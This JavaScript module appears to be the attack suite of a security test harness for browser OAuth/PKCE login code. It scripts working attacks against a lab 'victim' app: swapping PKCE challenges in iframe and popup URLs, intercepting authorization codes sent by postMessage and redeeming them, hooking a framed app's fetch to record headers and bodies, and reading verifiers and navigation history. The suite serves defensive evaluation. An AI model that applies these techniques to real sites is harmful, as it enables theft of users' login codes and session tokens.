// Frames and popups, by which the vault asks the provider.
import { codeIn, hiddenFrame, listen, soon, transactionUnderWay, wait, watch } from '../kit.mjs';
import { onPagesOrigin, whenever } from '../reasons.mjs';

/** `url` with the attacker's challenge in the place of the vault's. */
const swapped = (url, challenge) => {
  const changed = new URL(url);
  if (!changed.searchParams.has('code_challenge')) return url;
  changed.searchParams.set('code_challenge', challenge);
  return changed.href;
};

/** Takes each code that comes by message before the app hears of it. */
const takeCodes = (take, undo) => {
  const hear = (event) => {
    const { response, url } = event.data ?? {};
    const code = response?.code ?? (url && new URL(url).searchParams.get('code'));
    if (!code) return;
    event.stopImmediatePropagation();
    take(code);
  };
  listen(window, 'message', hear, undo);
};

export const frames = [
  {
    id: 'frame-location',
    title: 'reads the location of the silent frame at every moment, where a callback page answers',
    when: 'both',
    options: { silent: { responseMode: 'query' } },
    async run({ record, victim, undo }) {
      const look = () => {
        for (const frame of document.querySelectorAll('iframe')) {
          record(frame.src);
          try {
            record(frame.contentWindow.location.href);
            record(frame.contentWindow.performance.getEntries().map(({ name }) => name));
          } catch {
            // At the provider.
          }
        }
      };
      watch(look, undo);
      await victim('checkSession', 'renew');
    },
  },
  {
    id: 'frame-messages',
    title: 'listens to the messages of the silent frame',
    when: 'both',
    async run({ record, victim, undo }) {
      listen(window, 'message', ({ data, origin, ports }) => record([data, origin, [...ports]]), undo);
      await victim('checkSession', 'renew');
    },
  },
  {
    id: 'frame-code-race',
    title:
      'takes the code from the silent frame’s message, keeps the message from the app, and redeems the code without the verifier',
    when: 'both',
    async run({ victim, undo, thief, record }) {
      const guess = (code) => {
        record(code);
        for (const verifier of ['', 'x'.repeat(43), code]) thief.redeem(code, verifier);
      };
      takeCodes(guess, undo);
      await Promise.race([victim('checkSession'), wait(1500)]);
    },
    disturbs: true,
  },
  {
    id: 'frame-challenge',
    title: 'puts a challenge of its own into the URL of the app’s silent frame, and redeems the code that comes',
    when: 'both',
    async run({ hooks, victim, undo, thief, config }) {
      const { verifier, challenge } = await thief.pair();
      const { set, get } = Object.getOwnPropertyDescriptor(HTMLIFrameElement.prototype, 'src');
      hooks.replace(HTMLIFrameElement.prototype, 'src', {
        get,
        set(url) {
          Reflect.apply(set, this, [swapped(url, challenge)]);
        },
      });
      const redeemed = new Promise((resolve) => {
        takeCodes((code) => resolve(thief.redeem(code, verifier, config.callback)), undo);
      });
      void victim('checkSession');
      await Promise.race([redeemed, wait(3000)]);
    },
    disturbs: true,
    lost: whenever(onPagesOrigin('flow')),
  },
  {
    id: 'frame-app',
    title: 'loads the app in a frame, and is there first',
    when: 'after',
    async run({ record, undo, config, vault }) {
      const frame = hiddenFrame(`/attacks/victim.html?vault=${vault === 'own-origin' ? vault : 'closure'}`, undo);
      const inside = await soon(() => frame.contentDocument?.querySelector('script') && frame.contentWindow, 4000);
      if (!inside) return;
      // The document is there, and its modules are not yet.
      const { fetch } = inside;
      inside.fetch = (...args) => {
        // `Request` is the frame's: told by its method, not by its class.
        record([...(args[0]?.headers ?? [])]);
        args[0]?.clone?.().text().then(record);
        return fetch(...args).then((response) => {
          response.clone().text().then(record);
          return response;
        });
      };
      await soon(() => inside.session?.state.status === 'signedIn', 4000);
      await inside.session?.fetch(`${config.api}orders`);
    },
    lost: { after: onPagesOrigin('flow') },
  },
  {
    id: 'frame-app-redirect',
    title:
      'loads the app in a frame, has it sign in by redirect there, and reads the verifier from IndexedDB and the code from the URL',
    when: 'after',
    async run({ undo, thief, vault }) {
      const frame = hiddenFrame(`/attacks/victim.html?vault=${vault}`, undo);
      const inside = await soon(
        () => frame.contentWindow.session?.state.status === 'signedIn' && frame.contentWindow,
        6000,
      );
      inside?.session.signIn({ params: { prompt: 'none' } }).catch(() => {});
      const transaction = await soon(transactionUnderWay, 3000);
      const code = await codeIn(frame.contentWindow);
      frame.contentWindow.stop();
      if (transaction) await thief.redeem(code, transaction.code_verifier, transaction.redirect_uri);
    },
    lost: { after: onPagesOrigin('redirect') },
  },
  {
    id: 'frame-history',
    title: 'reads history, the navigation entries, and where the frames have been',
    when: 'both',
    async run({ record, victim, tap, hooks }) {
      hooks.tapAll(History.prototype, ['replaceState', 'pushState', 'state']);
      tap(HTMLIFrameElement.prototype, 'contentWindow');
      await victim();
      record([history.state, document.referrer, location.href, document.URL]);
      for (const entry of window.navigation?.entries() ?? []) record([entry.url, entry.getState()]);
      for (const entry of performance.getEntriesByType('navigation')) record(entry.toJSON());
    },
  },
  {
    id: 'popup-opener',
    title: 'takes hold of the app’s popup, and reads where it is at every moment',
    when: 'both',
    async run({ record, hooks, session, victim, undo }) {
      let popup;
      hooks.instead(window, 'open', (open) => (...args) => {
        popup = Reflect.apply(open, window, args);
        return popup;
      });
      undo(() => popup?.close());
      const look = () => {
        try {
          record([popup.location.href, popup.name, popup.document.referrer]);
        } catch {
          // Not there, or at the provider.
        }
      };
      watch(look, undo);
      await victim('fetch');
      const app = await session();
      await Promise.race([app.signIn({ popup: true, params: { prompt: 'none' } }).catch(record), wait(3000)]);
    },
  },
  {
    id: 'popup-challenge',
    title: 'gives the app a window of its own for the popup, puts its own challenge into the URL, and redeems the code',
    when: 'both',
    async run({ hooks, session, victim, undo, thief }) {
      const { verifier, challenge } = await thief.pair();
      let popup;
      undo(() => popup?.close());
      hooks.instead(window, 'open', (open) => (...args) => {
        popup = Reflect.apply(open, window, args);
        const location = {
          set href(url) {
            popup.location.href = swapped(url, challenge);
          },
        };
        return { location, closed: false, close() {}, focus() {} };
      });
      await victim('fetch');
      const redeemed = new Promise((resolve) => {
        takeCodes((code) => resolve(thief.redeem(code, verifier)), undo);
      });
      const app = await session();
      app.signIn({ popup: true, params: { prompt: 'none' } }).catch(() => {});
      await Promise.race([redeemed, wait(4000)]);
    },
    disturbs: true,
    lost: whenever(onPagesOrigin('flow')),
  },
  {
    id: 'popup-callback',
    title: 'opens the callback page itself, and listens to what it hands over',
    when: 'after',
    async run({ record, undo, victim }) {
      listen(window, 'message', ({ data }) => record(data), undo);
      const popup = window.open('/callback.html');
      undo(() => popup?.close());
      hiddenFrame('/callback.html?code=guess&state=sr-sguess', undo);
      await victim('checkSession');
      record(await soon(() => popup?.document.documentElement.outerHTML, 500));
    },
  },
];
